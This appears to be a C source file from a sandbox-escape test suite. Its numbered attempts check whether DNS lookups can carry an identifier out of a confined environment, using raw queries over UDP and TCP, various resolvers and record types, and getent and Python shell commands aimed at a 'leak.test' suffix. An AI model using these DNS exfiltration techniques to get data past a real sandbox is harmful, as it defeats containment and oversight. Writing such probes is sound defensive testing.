// Layer names: what a question about a name could carry out. ESCAPE_DNS_PORT is where the outside's resolver listens,
// on every address, by UDP and TCP; it notes every name that it is asked for. The name carries the attempt's id.
#include <netdb.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attempt.h"
#include "sockets.h"

// RFC 1035: a question for ID.`suffix`; its size. `tcp` puts the length in front.
static size_t question(unsigned char* out, const char* suffix, int type, int tcp) {
  unsigned char* at = out + (tcp ? 2 : 0);
  static const unsigned char head[12] = {0x12, 0x34, 1, 0, 0, 1};
  memcpy(at, head, sizeof head);
  at += sizeof head;
  for (const char* part = text("%s.%s", label(), suffix); *part;) {
    const size_t size = strcspn(part, ".");
    *at++ = (unsigned char)size;
    memcpy(at, part, size);
    at += size;
    part += size + (part[size] == '.');
  }
  *at++ = 0;
  *at++ = 0, *at++ = (unsigned char)type;
  *at++ = 0, *at++ = 1;
  const size_t size = (size_t)(at - out);
  if (tcp) out[0] = 0, out[1] = (unsigned char)(size - 2);
  return size;
}

static int ask(const char* server, int port, int type, int tcp, const char* suffix) {
  const struct target to = target_of(server, port);
  unsigned char buffer[512];
  const size_t size = question(buffer, suffix, type, tcp);
  const int fd = make_socket(to.address.ss_family, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
  if (fd < 0 || connect(fd, (const struct sockaddr*)&to.address, to.size) != 0) return errno;
  if (send(fd, buffer, size, MSG_NOSIGNAL) < 0) return errno;
  struct pollfd ready = {fd, POLLIN, 0};
  if (poll(&ready, 1, 300) != 1) return ETIMEDOUT;
  return read_fd(fd);
}
static int ask_resolver(const char* server, int type, int tcp) {
  return ask(server, number("ESCAPE_DNS_PORT"), type, tcp, "leak.test");
}

enum { kA = 1, kMx = 15, kTxt = 16, kAaaa = 28, kHttps = 65, kAxfr = 252, kAny = 255 };

ATTEMPT(M01, names, "asks the machine's resolver for a name", "", .judge = kByWitness) {
  return ask_resolver("127.0.0.1", kA, 0);
}
ATTEMPT(M02, names, "asks it by TCP", "", .judge = kByWitness) { return ask_resolver("127.0.0.1", kA, 1); }
ATTEMPT(M03, names, "asks a public resolver", "", .judge = kByWitness, .needs = "addresses") {
  return ask_resolver("93.184.215.14", kA, 0);
}
ATTEMPT(M04, names, "asks a public resolver by TCP", "", .judge = kByWitness, .needs = "addresses") {
  return ask_resolver("93.184.215.14", kA, 1);
}
ATTEMPT(M05, names, "asks by IPv6", "", .judge = kByWitness) { return ask_resolver("::1", kAaaa, 0); }
ATTEMPT(M06, names, "asks the resolver of a container engine", "", .judge = kByWitness) {
  return ask_resolver("127.0.0.11", kA, 0);
}
ATTEMPT(M07, names, "asks the resolver of systemd", "", .judge = kByWitness) {
  return ask_resolver("127.0.0.53", kA, 0);
}
ATTEMPT(M08, names, "asks for TXT, MX, HTTPS and ANY", "", .judge = kByWitness) {
  static const int types[] = {kTxt, kMx, kHttps, kAny, 10 /* NULL */};
  int last = 0;
  for (size_t i = 0; i < sizeof types / sizeof *types; ++i) last = ask_resolver("127.0.0.1", types[i], 0);
  return last;
}
ATTEMPT(M09, names, "asks for a whole zone", "", .judge = kByWitness) { return ask_resolver("127.0.0.1", kAxfr, 1); }
ATTEMPT(M10, names, "asks under a suffix that is allowed", "", .judge = kByWitness) {
  return ask("127.0.0.1", number("ESCAPE_DNS_PORT"), kA, 0, "ok.test");
}
ATTEMPT(M11, names, "asks for the text of a name that is allowed", "", .judge = kByWitness) {
  return ask("127.0.0.1", number("ESCAPE_DNS_PORT"), kTxt, 0, "ok.test");
}
ATTEMPT(M12, names, "asks a neighbour of the resolver's port (mDNS)", "", .judge = kByWitness) {
  return ask("127.0.0.1", number("ESCAPE_MDNS_PORT"), kA, 0, "local");
}
ATTEMPT(M13, names, "asks through libc", "exit", .judge = kByWitness) {
  return shell("getent ahosts \"$LABEL.leak.test\"");
}
ATTEMPT(M14, names, "asks through libc under a suffix that is allowed", "exit", .judge = kByWitness) {
  return shell("getent ahosts \"$LABEL.ok.test\"");
}
ATTEMPT(M15, names, "asks through Python", "exit", .judge = kByWitness) {
  return shell(
      "/usr/bin/python3 -S -c 'import os, socket; socket.getaddrinfo(os.environ[\"LABEL\"] + \".leak.test\", 80)'");
}
ATTEMPT(M16, names, "sends the name as the text of a query to the sinks' port", "", .judge = kByWitness) {
  return ask("127.0.0.1", number("ESCAPE_PORT"), kA, 0, "leak.test");
}
ATTEMPT(M17, names, "asks the name service cache by its socket", "EACCES EPERM ENOENT ECONNREFUSED",
        .judge = kByEffect) {
  const struct target to = unix_target(value("ESCAPE_UNIX_STREAM"), 0);
  return connect_and_send(make_socket(AF_UNIX, SOCK_STREAM, 0), &to);
}
